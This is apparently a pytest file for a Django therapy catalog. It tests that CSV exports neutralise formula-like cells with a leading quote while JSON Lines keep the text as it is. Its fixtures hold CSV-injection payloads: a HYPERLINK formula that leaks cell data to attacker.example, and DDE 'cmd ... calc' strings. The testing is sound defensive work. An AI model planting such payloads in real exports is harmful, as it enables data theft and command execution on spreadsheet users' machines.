"""CSV injection: a record whose text starts like a spreadsheet formula (`=`, `+`, `-`, `@`,
tab, carriage return), written through the API (or a bulk load), is exported as CSV with the
cell neutralised (a leading single quote, as OWASP recommends), by the API's `format=csv` and
by the pages' "Download CSV" link alike; JSON Lines carry the text exactly."""

import csv
import datetime
import html
import io
import json
import re

import pytest
from django.contrib.auth.models import User

from catalog.models import Therapy

from .helpers import api_token, make_reviewer, review

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
HOSTILE = [
    {
        "slug": "hostile-one",
        "name": HYPERLINK,
        "summary": "+1+cmd|' /C calc'!A0",
        "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {"slug": "hostile-two", "name": "Hostile two", "summary": "Calm.", "description": "Calm."},
]
# Which cell of which record starts like a formula. The API trims leading whitespace, so the
# tab and the carriage return come from a bulk load (an update in SQL), as they could.
# A reviewer's name is text too (an administrator typed it into a profile).
REVIEWER = "-2+3+cmd|' /C calc'!A0"
FORMULAS = {
    "hostile-one": {
        **{name: HOSTILE[0][name] for name in ("name", "summary", "description")},
        "reviewer": REVIEWER,
    },
    "hostile-two": {"summary": "\t=1+1", "description": "\r=1+1"},
}


@pytest.fixture
def hostile(client):
    """The hostile therapies, created and published through the API with a token."""
    token = api_token(User.objects.create_superuser("admin", password="x"))
    for record in HOSTILE:
        data = {
            **record,
            "therapy_class": "monoclonal-antibodies",
            "sources": ["drugscom-immunotherapy"],
            "status": "published",
        }
        response = client.post(
            "/api/v1/therapies/",
            data,
            content_type="application/json",
            headers={"Authorization": f"Token {token}"},
        )
        assert response.status_code == 201, response.content
    Therapy.objects.filter(slug="hostile-two").update(**FORMULAS["hostile-two"])
    profile = make_reviewer(full_name=REVIEWER, credential="MD", specialty="")
    review(Therapy.objects.get(slug="hostile-one"), profile, datetime.date(2026, 11, 30))
    return FORMULAS


def body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content if response.streaming else [response.content])


def csv_by_slug(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(body(response).decode("utf-8"), newline="")))
    return {row["slug"]: row for row in rows}


def neutralised(text):
    return "'" + text


def test_csv_export_neutralises_formula_cells(client, hostile):
    rows = csv_by_slug(client.get("/api/v1/therapies/?format=csv"))
    for slug, cells in hostile.items():
        for name, text in cells.items():
            assert rows[slug][name] == neutralised(text), (slug, name)
    # Ordinary cells are exported as they are.
    assert rows["rituximab"]["name"] == "Rituximab"
    assert rows["hostile-two"]["name"] == "Hostile two"
    assert rows["hostile-one"]["last_reviewed"] == "2026-11-30"
    assert rows["hostile-two"]["reviewer"] == ""


def test_csv_of_one_record_neutralises_formula_cells(client, hostile):
    response = client.get("/api/v1/therapies/hostile-one/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    (row,) = csv.DictReader(io.StringIO(body(response).decode("utf-8"), newline=""))
    assert row["name"] == neutralised(HYPERLINK)


def test_the_pages_download_csv_link_is_neutralised(client, hostile):
    page = client.get("/therapies/", {"q": "hostile"})
    link = re.search(
        r'<a href="([^"]+)" type="text/csv" download>Download CSV</a>', page.content.decode()
    )
    assert link, "the list page has no Download CSV link"
    rows = csv_by_slug(client.get(html.unescape(link.group(1))))
    assert set(rows) == {"hostile-two"}  # the search matched the name "Hostile two"
    assert rows["hostile-two"]["summary"] == neutralised("\t=1+1")
    assert rows["hostile-two"]["description"] == neutralised("\r=1+1")


def test_json_lines_keep_the_text_exactly(client, hostile):
    response = client.get("/api/v1/therapies/?format=jsonl")
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    rows = {row["slug"]: row for row in map(json.loads, body(response).decode().splitlines())}
    for slug, cells in hostile.items():
        for name, text in cells.items():
            value = rows[slug][name]
            assert (value["name"] if name == "reviewer" else value) == text, (slug, name)
